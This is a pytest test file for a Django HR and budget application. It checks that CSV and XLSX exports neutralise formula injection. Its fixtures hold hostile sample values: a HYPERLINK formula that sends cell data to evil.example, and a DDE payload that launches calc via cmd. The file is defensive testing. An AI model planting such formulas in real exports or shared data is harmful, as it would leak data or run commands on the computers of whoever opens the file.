"""Every CSV and XLSX export neutralises text a spreadsheet would run as a formula (OWASP CSV
injection): names arriving by the sync, SCIM or an import cannot attack whoever opens the file."""

import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from budgets.models import Budget
from budgets.services import budget_allocate
from people.audit import audit_record
from people.exports import FORMULA_STARTS, neutralise
from people.models import AuditAction, Department, Employee, JobGroup
from tests.exports import body

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
# Every export a page offers: (url name, format). test_every_export_link_is_tested keeps it complete.
EXPORTS = [
    ("budgets:overview", "csv"),
    ("budgets:overview", "xlsx"),
    ("people:directory", "csv"),
    ("people:audit_log", "csv"),
]
# Monitoring's downloads are checked in tests/monitoring/test_pages.py (formula-looking names defused).
TEMPLATES_WITH_EXPORTS = {
    "budgets/overview.html",
    "people/partials/directory_results.html",
    "people/partials/audit_results.html",
    "monitoring/partials/metrics_table.html",
    "monitoring/partials/people.html",
    "monitoring/partials/breakdown.html",
}


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_starting_like_a_formula_gets_an_apostrophe_and_other_values_stay(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("Zoë de Vries") == "Zoë de Vries"
    assert neutralise(-5) == -5
    assert neutralise("") == ""


@pytest.fixture
def hostile_org(personas, org, policy, time_machine):
    time_machine.move_to("2026-03-02 10:00")
    budget_allocate()
    assert Budget.objects.exists()
    Department.objects.filter(pk=org["service"].pk).update(name=EVIL)
    JobGroup.objects.filter(pk=org["agents"].pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    Employee.objects.filter(pk=personas.employee.pk).update(first_name="-2+3", last_name="\tTab", external_id="+31")
    # the audit log carries reasons people typed and the names of those it is about
    audit_record(action=AuditAction.BUDGET_ADJUSTED, subject=personas.employee.pk, reason=EVIL)
    return personas


def _csv_cells(response) -> list[str]:
    text = body(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(response) -> list:
    sheet = load_workbook(io.BytesIO(body(response))).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(("name", "fmt"), EXPORTS)
def test_every_export_neutralises_formula_text(client_for, hostile_org, name, fmt):
    response = client_for(hostile_org.hr).get(reverse(name), {"export": fmt})
    assert response.status_code == 200
    if fmt == "csv":
        cells = _csv_cells(response)
        texts = cells
    else:
        cells = _xlsx_cells(response)
        assert all(cell.data_type != "f" for cell in cells)
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
    assert f"'{EVIL}" in texts
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)], texts
    if name == "people:directory":
        assert {"'-2+3", "'\tTab", "'+31"} <= set(texts)
    if name == "people:audit_log":
        assert [text for text in texts if "-2+3" in text] == ["'-2+3 \tTab"]  # the person it is about


def test_without_the_neutraliser_the_formula_reaches_the_file(client_for, hostile_org, monkeypatch):
    """The negative control: with neutralise() removed the CSV holds the raw formula, and openpyxl
    left to itself stores such text as a live formula (why xlsx_response types text cells)."""
    from openpyxl import Workbook

    monkeypatch.setattr("people.exports.neutralise", lambda value: value)
    response = client_for(hostile_org.hr).get(reverse("budgets:overview"), {"export": "csv"})
    assert EVIL in _csv_cells(response)
    sheet = Workbook().active
    sheet.append([EVIL])
    assert sheet["A1"].data_type == "f"


def test_every_export_link_is_tested():
    found = {
        str(path).split("/templates/", 1)[1]
        for path in ROOT.glob("*/templates/**/*.html")
        if "export=" in path.read_text()
    }
    assert found == TEMPLATES_WITH_EXPORTS
